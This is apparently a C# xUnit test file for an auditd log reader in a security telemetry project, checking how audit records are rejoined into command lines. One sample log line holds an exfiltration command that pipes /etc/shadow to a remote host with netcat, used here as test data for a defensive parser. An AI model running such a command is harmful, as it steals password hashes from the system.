using System.Text;
using AttackClassifier.Telemetry;

namespace AttackClassifier.Tests.Telemetry;

public class AuditdEventReaderTests
{
    private static readonly TelemetryReaderOptions Auditd = new() { Format = TelemetryFormat.Auditd };

    private static List<TelemetryRecord> Read(string log, TelemetryReaderOptions? options = null) =>
        TelemetryReaderTests.Read(log, options ?? Auditd);

    private static string Hex(string s) => Convert.ToHexString(Encoding.UTF8.GetBytes(s));

    private static string Syscall(int serial, int pid) =>
        $"type=SYSCALL msg=audit(1710408413.100:{serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={pid} auid=1000 uid=0 tty=pts0 ses=2 comm=\"x\" exe=\"/usr/bin/x\" key=(null)";

    private static string Execve(int serial, params string[] argv) =>
        $"type=EXECVE msg=audit(1710408413.100:{serial}): argc={argv.Length} " + string.Join(' ', argv.Select((a, i) => $"a{i}={(a.Any(c => c <= ' ' || c == '"' || c > '~') ? Hex(a) : $"\"{a}\"")}"));

    private static string Proctitle(int serial, params string[] argv) => $"type=PROCTITLE msg=audit(1710408413.100:{serial}): proctitle={Hex(string.Join('\0', argv))}";

    private static string Eoe(int serial) => $"type=EOE msg=audit(1710408413.100:{serial}): ";

    [Fact]
    public void Ausearch_interpreted_output_in_reverse_order_with_a_split_event()
    {
        // ausearch -i prints each event's records last-to-first between "----" lines, arguments decoded and unquoted,
        // and can split one event over two groups (here 2210: CWD, EXECVE, SYSCALL, then PROCTITLE, PATH).
        const string log = """
            ----
            type=PROCTITLE msg=audit(03/14/2024 09:27:11.042:2209) : proctitle=bash -c cat /etc/shadow  | nc 203.0.113.45 9001
            type=PATH msg=audit(03/14/2024 09:27:11.042:2209) : item=0 name=/usr/bin/bash inode=1835010 nametype=NORMAL
            type=CWD msg=audit(03/14/2024 09:27:11.042:2209) : cwd=/home/alice/My Documents
            type=EXECVE msg=audit(03/14/2024 09:27:11.042:2209) : argc=3 a0=bash a1=-c a2=cat /etc/shadow  | nc 203.0.113.45 9001
            type=SYSCALL msg=audit(03/14/2024 09:27:11.042:2209) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55d1 items=2 ppid=3752 pid=3888 auid=alice uid=root gid=root tty=pts1 ses=3 comm=bash exe=/usr/bin/bash key=exec
            ----
            type=CWD msg=audit(03/14/2024 09:27:12.500:2210) : cwd=/tmp
            type=EXECVE msg=audit(03/14/2024 09:27:12.500:2210) : argc=1 a0=df
            type=SYSCALL msg=audit(03/14/2024 09:27:12.500:2210) : arch=x86_64 syscall=execve success=yes exit=0 items=1 ppid=3752 pid=3901 auid=alice uid=alice tty=pts1 ses=3 comm=df exe=/usr/bin/df key=exec
            ----
            type=PROCTITLE msg=audit(03/14/2024 09:27:12.500:2210) : proctitle=df
            type=PATH msg=audit(03/14/2024 09:27:12.500:2210) : item=0 name=/usr/bin/df nametype=NORMAL
            """;
        List<TelemetryRecord> records = Read(log);
        Assert.Equal(2, records.Count);
        Assert.Equal("bash -c cat /etc/shadow  | nc 203.0.113.45 9001", records[0].CommandLine);   // the double space survives
        Assert.Equal((2L, "3888", "root", "alice", "/home/alice/My Documents", "03/14/2024 09:27:11.042:2209"),
            (records[0].LineNumber, records[0].ProcessId, records[0].User, records[0].AuditUserId, records[0].WorkingDirectory, records[0].EventId));
        Assert.Equal(("df", 8L, "3901", "/tmp"), (records[1].CommandLine, records[1].LineNumber, records[1].ProcessId, records[1].WorkingDirectory));
    }

    [Fact]
    public void Execve_argv_beats_a_proctitle_the_process_rewrote_and_the_first_record_sets_the_order()
    {
        // 101 starts first but completes last; 102's records interleave. The output follows the first records: 101, 102.
        string log = string.Join('\n',
            Syscall(101, 500), Syscall(102, 501), Execve(102, "whoami"), Proctitle(102, "whoami"), Eoe(102),
            Execve(101, "sshd: alice [priv]", "-D"), Proctitle(101, "sshd: root@notty"), Eoe(101));
        List<TelemetryRecord> records = Read(log);
        Assert.Equal(["sshd: alice [priv] -D", "whoami"], records.Select(r => r.CommandLine));
        Assert.Equal([1L, 2], records.Select(r => r.LineNumber));
        Assert.Equal(["500", "501"], records.Select(r => r.ProcessId));
    }

    [Fact]
    public void Split_argument_chunks_and_hex_chunks_are_rejoined_as_bytes()
    {
        // "é" is C3 A9: the kernel may cut between the two bytes; the chunks are joined before UTF-8 decoding.
        string log = string.Join('\n',
            Syscall(7, 70),
            "type=EXECVE msg=audit(1710408413.100:7): argc=3 a0=\"echo\" a1_len=7 a1[0]=636166C3",
            "type=EXECVE msg=audit(1710408413.100:7): a1[1]=A92121 a2=\"--\"",
            Proctitle(7, "echo", "café!!", "--"), Eoe(7));
        Assert.Equal("echo café!! --", Assert.Single(Read(log)).CommandLine);
    }

    [Fact]
    public void Missing_execve_arguments_fall_back_to_proctitle_then_to_the_arguments_seen()
    {
        string withTitle = string.Join('\n', Syscall(8, 80), "type=EXECVE msg=audit(1710408413.100:8): argc=3 a0=\"ls\" a1=\"-la\"",
            Proctitle(8, "ls", "-la", "/root"), Eoe(8));
        TelemetryRecord record = Assert.Single(Read(withTitle));
        Assert.Equal(("ls -la /root", false), (record.CommandLine, record.Truncated));
        string without = string.Join('\n', Syscall(9, 90), "type=EXECVE msg=audit(1710408413.100:9): argc=3 a0=\"ls\" a2=\"/root\"", Eoe(9));
        record = Assert.Single(Read(without));
        Assert.Equal(("ls /root", true), (record.CommandLine, record.Truncated));
    }

    [Fact]
    public void Malformed_lines_are_error_records_in_line_order_and_the_event_survives_a_broken_record_of_its_own()
    {
        string log = string.Join('\n',
            Syscall(10, 100),
            "type=EXECVE msg=audit(1710408413.100:10): argc=2 a0=\"cat\" a1=2F6574632F7",   // odd hex
            "this is not an audit record",
            "type=SYSCALL msg=audit(1710408413.100): pid=1",
            "",
            Proctitle(10, "cat", "/etc/passwd"), Eoe(10));
        List<TelemetryRecord> records = Read(log);
        // One record per event: the broken EXECVE belongs to event 10, whose PROCTITLE still gives the command; lines that are
        // not records of any event are error records of their own, in line order.
        Assert.Equal(3, records.Count);
        Assert.Equal(("cat /etc/passwd", 1L), (records[0].CommandLine, records[0].LineNumber));   // EXECVE broken: PROCTITLE used
        Assert.Equal((3L, "not an audit record: expected 'type=TYPE msg=audit(TIME:SERIAL): …'."), (records[1].LineNumber, records[1].Error));
        Assert.Equal((4L, "SYSCALL record: msg=audit(1710408413.100) is not TIME:SERIAL."), (records[2].LineNumber, records[2].Error));
    }

    [Fact]
    public void An_event_whose_only_command_record_is_broken_gives_one_error_record_naming_the_line()
    {
        List<TelemetryRecord> records = Read("type=PROCTITLE msg=audit(1.1:1): proctitle=ABC\n" + Proctitle(2, "id"));
        Assert.Equal(2, records.Count);
        Assert.Equal(1L, records[0].LineNumber);
        Assert.StartsWith("line 1: ", records[0].Error);
        Assert.Equal("id", records[1].CommandLine);
    }

    [Fact]
    public void Events_without_execve_or_proctitle_and_userspace_records_give_no_record()
    {
        string log = string.Join('\n',
            "type=USER_CMD msg=audit(1710408413.100:20): pid=1 uid=1000 auid=1000 ses=2 msg='cwd=\"/\" cmd=6964 res=success'",
            Syscall(21, 210), "type=CWD msg=audit(1710408413.100:21): cwd=\"/\"", Eoe(21),
            "type=DAEMON_START msg=audit(1710408413.100:22): op=start ver=3.0.7 format=enriched res=success",
            "type=UNKNOWN[1300] msg=audit(1710408413.100:23): arch=c000003e syscall=59 ppid=1 pid=230 uid=0",
            "type=UNKNOWN[1327] msg=audit(1710408413.100:23): proctitle=6964",
            "type=UNKNOWN[1320] msg=audit(1710408413.100:23): ");
        TelemetryRecord record = Assert.Single(Read(log));
        Assert.Equal(("id", 6L, "230"), (record.CommandLine, record.LineNumber, record.ProcessId));
    }

    [Fact]
    public void Enriched_fields_node_and_hex_values_are_carried()
    {
        string log = "node=db-02 type=SYSCALL msg=audit(1710408413.100:30): arch=c000003e syscall=59 ppid=1 pid=300 auid=1000 uid=0 tty=(none) ses=4294967295 "
                     + $"comm=\"x\" exe={Hex("/opt/my tool/x")} key=(null)\u001dARCH=x86_64 AUID=\"alice\" UID=\"root\"\n"
                     + "node=db-02 type=EXECVE msg=audit(1710408413.100:30): argc=1 a0=\"x\"\n"
                     + "node=web-01 type=EXECVE msg=audit(1710408413.100:30): argc=1 a0=\"y\"\n"   // same serial, other host
                     + "node=db-02 type=EOE msg=audit(1710408413.100:30): \nnode=web-01 type=EOE msg=audit(1710408413.100:30): \n";
        List<TelemetryRecord> records = Read(log);
        Assert.Equal(["x", "y"], records.Select(r => r.CommandLine));
        TelemetryRecord r = records[0];
        Assert.Equal(("db-02", "root", "0", "1000", "(none)", "4294967295", "/opt/my tool/x", "30", "1710408413.100"),
            (r.Host, r.User, r.UserId, r.AuditUserId, r.Terminal, r.Session, r.Executable, r.AuditSerial, r.Timestamp));
        Assert.Equal("web-01", records[1].Host);
    }

    [Fact]
    public void An_event_that_never_completes_is_flushed_after_the_window()
    {
        // 40 lacks PROCTITLE and EOE; with a window of 3 it goes out once three later events have begun, in its place.
        var options = Auditd with { AuditdWindow = 3 };
        var lines = new List<string> { Syscall(40, 400), Execve(40, "sleep", "60") };
        for (int s = 41; s <= 45; s++) lines.AddRange([Syscall(s, s * 10), Execve(s, "id"), Proctitle(s, "id"), Eoe(s)]);
        List<TelemetryRecord> records = Read(string.Join('\n', lines), options);
        Assert.Equal(["sleep 60", "id", "id", "id", "id", "id"], records.Select(r => r.CommandLine));
        Assert.Equal([1L, 3, 7, 11, 15, 19], records.Select(r => r.LineNumber));
    }

    /// <summary>Endless interleaved audit traffic where every other event never completes (it ends after 100,000 events
    /// only so that a reader that waits for the end fails the test instead of hanging it).</summary>
    private sealed class EndlessAuditLog : TextReader
    {
        private readonly StringBuilder _pending = new();
        private int _serial, _offset;

        internal int LinesWritten { get; private set; }

        public override int Read(char[] buffer, int index, int count)
        {
            if (_offset == _pending.Length)
            {
                if (_serial == 100_000) return 0;
                _pending.Clear();
                _offset = 0;
                _serial++;
                _pending.Append(Syscall(_serial, _serial)).Append('\n').Append(Execve(_serial, "echo", _serial.ToString())).Append('\n');
                LinesWritten += 2;
                if (_serial % 2 == 0)
                {
                    _pending.Append(Proctitle(_serial, "echo")).Append('\n').Append(Eoe(_serial)).Append('\n');
                    LinesWritten += 2;
                }
            }
            int n = Math.Min(count, _pending.Length - _offset);
            _pending.CopyTo(_offset, buffer.AsSpan(index, n), n);
            _offset += n;
            return n;
        }
    }

    [Fact]
    public void Records_stream_out_of_an_endless_log_with_bounded_lag()
    {
        var log = new EndlessAuditLog();
        List<TelemetryRecord> first = [.. TelemetryReader.Read(log, Auditd with { AuditdWindow = 8 }).Take(100)];
        Assert.Equal(Enumerable.Range(1, 100).Select(i => $"echo {i}"), first.Select(r => r.CommandLine));
        Assert.True(log.LinesWritten < 100 * 3 + 8 * 3 + 40, $"read {log.LinesWritten} lines for 100 records");
    }

    [Fact]
    public void Hostile_megabyte_of_incomplete_events_is_read_in_order()
    {
        var log = new StringBuilder();
        const int events = 20_000;
        for (int s = 1; s <= events; s++) log.Append(Execve(s, "a")).Append('\n');   // ~50 bytes each, none ever completes
        List<TelemetryRecord> records = Read(log.ToString());
        Assert.Equal(events, records.Count);
        Assert.Equal(Enumerable.Range(1, events).Select(s => (long)s), records.Select(r => r.LineNumber));
        Assert.All(records, r => Assert.Equal("a", r.CommandLine));
    }

    [Fact]
    public void Long_argv_is_cut_to_the_command_limit()
    {
        string log = string.Join('\n', Syscall(50, 500), Execve(50, "echo", new string('A', 5000), "tail"), Proctitle(50, "echo"), Eoe(50));
        TelemetryRecord record = Assert.Single(Read(log, Auditd with { MaxCommandChars = 100 }));
        Assert.Equal(("echo " + new string('A', 95), true), (record.CommandLine, record.Truncated));
    }
}
